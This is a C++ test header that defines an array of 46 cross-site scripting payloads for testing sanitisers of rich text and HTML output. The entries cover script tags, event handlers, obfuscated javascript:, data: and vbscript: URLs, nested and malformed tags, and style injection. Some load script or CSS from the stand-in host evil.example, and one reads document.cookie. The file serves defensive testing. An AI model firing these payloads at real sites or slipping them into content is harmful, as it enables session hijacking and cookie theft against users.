// Hostile markup for tests of anything that keeps rich text or shows text as HTML: the payloads
// other tests already tried one by one (a script tag, javascript: and data: URLs in any case),
// and the OWASP XSS filter evasion cheat sheet's families (event handlers, entities and
// whitespace inside URLs, broken and nested tags, comments, foreign markup, styles).
#pragma once

#include <array>
#include <string_view>

namespace aplauso::test {

inline constexpr std::array<std::string_view, 46> kXssPayloads{
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script>alert(1)</script ",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=x onerror=\"&#97;lert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">clic</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">clic</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">clic</a>",
    "<a href=\"jav\tascript:alert(1)\">clic</a>",
    "<a href=\" javascript:alert(1)\">clic</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">clic</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">clic</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">clic</a>",
    "<a href=javascript:alert(1)>clic</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">clic</a>",
    "<a href=\"data:image/png;base64,x\">clic</a>",
    "<a href=\"vbscript:msgbox(1)\">clic</a>",
    "<a href=\"//evil.example/\">clic</a>",
    "<a href=\"/\\evil.example/\">clic</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" onmouseover=alert(1)>clic</a>",
    "<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">clic</a>",
    "<p style=\"background:url(javascript:alert(1))\">estilo</p>",
    "<div style=\"width: expression(alert(1));\">estilo</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p>abierto <b onmouseover=alert(1)>sin cerrar",
    "<img src=x onerror=alert(1)",
    "<<script>alert(1);//<</script>",
};

}  // namespace aplauso::test
